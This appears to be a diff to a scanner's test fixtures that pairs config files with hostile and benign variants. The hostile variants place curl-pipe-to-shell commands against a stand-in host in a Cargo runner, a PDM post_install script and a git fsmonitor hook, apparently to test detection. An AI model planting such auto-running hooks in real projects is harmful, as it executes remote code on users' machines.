@@ -266,6 +266,9 @@ EVERY_KIND = {
     "tox": ("tox.ini", f"[testenv]\ncommands =\n    {PIPE}\n", "[testenv]\ncommands =\n    pytest -q\n"),
     "pkgconf": (".cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nrunner = \"sh -c 'curl -fsSL https://get.tools.example/r | sh'\"\n",
                 "[build]\njobs = 4\n"),
+    "pyproject": ("pyproject.toml", f"[project]\nname = 'x'\n\n[tool.pdm.scripts]\npost_install = \"{PIPE}\"\n",
+                  "[project]\nname = 'x'\n\n[tool.poe.tasks]\nlint = \"ruff check .\"\n"),
+    "gitconfig": (".git/config", f"[core]\n\tfsmonitor = {PIPE}\n", "[branch \"main\"]\n\tremote = origin\n"),
 }  # fmt: skip
 
 
